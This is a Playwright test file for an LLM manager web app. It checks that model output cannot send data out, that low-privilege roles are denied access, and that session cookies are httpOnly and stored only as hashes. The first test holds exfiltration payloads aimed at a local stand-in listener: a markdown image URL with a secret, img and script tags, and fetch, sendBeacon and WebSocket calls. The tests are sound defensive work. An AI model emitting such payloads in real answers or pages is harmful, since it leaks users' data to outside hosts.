"""What a model, a title or a name says can't call home, and a low role finds no way to the people."""

import socket
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from sqlalchemy import create_engine, text

from lib.access.permissions import OPERATOR, Role
from lib.services import build
from lib.settings import Settings
from tests.browser.conftest import PASSWORD, USER, Server, sign_in
from tests.waiting import CEILING_MS

pytestmark = pytest.mark.browser


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[bytes]]]:
    """The address of a server of somebody else's, and what it hears."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def listen() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(1024))

        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", heard
        listener.shutdown(socket.SHUT_RDWR)


@pytest.mark.feature("CALL-6")
def test_what_a_model_says_does_not_leave_the_browser(
    browser_alone: BrowserContext, server: Server, elsewhere: tuple[str, list[bytes]]
) -> None:
    url, heard = elsewhere
    words = f"![a]({url}/image?secret) <img src='{url}/html'> <script>fetch('{url}/script')</script> end of answer"
    services = build(Settings(server.data, f"sqlite:///{server.data / 'llm_manager.db'}"))
    services.configurations.create(OPERATOR, slug="leaky", app="tests", provider="scripted", model=f"say:{words}")
    services.close()
    page = browser_alone.new_page()
    sign_in(page, server, path="/playground?config=leaky")
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_have_attribute("placeholder", "Ask leaky", timeout=CEILING_MS)
    box.fill(f"![p]({url}/prompt)")
    box.press("Enter")
    expect(page.get_by_text("end of answer").first).to_be_visible(timeout=CEILING_MS)
    page.goto(server.url + "/activity?text=end+of+answer")
    page.wait_for_load_state("networkidle")
    # And what would get through Streamlit's own cleaning is stopped by the policy.
    for attempt in ("new Image().src=u", "fetch(u).catch(()=>0)", "navigator.sendBeacon(u)", "new WebSocket(u)"):
        page.evaluate(f"u => {{ try {{ {attempt} }} catch (error) {{}} }}", f"{url}/attempt")
    page.wait_for_timeout(500)
    assert heard == []


@pytest.mark.feature("ACC-1")
def test_a_low_role_finds_no_way_to_the_people(browser_alone: BrowserContext, server: Server) -> None:
    page = browser_alone.new_page()
    services = build(Settings(server.data, f"sqlite:///{server.data / 'llm_manager.db'}"))
    services.users.create(OPERATOR, "lowly", PASSWORD, Role.ADMINISTRATOR)
    services.close()
    sign_in(page, server, "lowly", path="/access")
    expect(page.get_by_text("Access is not open to you")).to_be_visible(timeout=CEILING_MS)
    assert page.get_by_role("link", name="Access").count() == 0
    assert page.get_by_text(USER, exact=True).count() == 0


@pytest.mark.feature("ACC-2")
def test_the_session_is_out_of_reach_of_scripts_and_only_its_hash_is_stored(signed_in: Page, server: Server) -> None:
    assert "session" not in signed_in.evaluate("document.cookie")
    (cookie,) = (c for c in signed_in.context.cookies() if c["name"] == "llm_manager_session")
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    engine = create_engine(f"sqlite:///{server.data / 'llm_manager.db'}")
    with engine.connect() as connection:
        hashes = set(connection.scalars(text("SELECT token_hash FROM sessions")))
    engine.dispose()
    assert cookie["value"] not in hashes
    assert cookie["value"] not in server.log.read_text()


@pytest.fixture
def browser_alone(browser: Browser) -> Iterator[BrowserContext]:
    """A browser whose console may complain: what the policy refuses and a missing page are reported there."""
    made = browser.new_context(viewport={"width": 1280, "height": 900})
    yield made
    made.close()
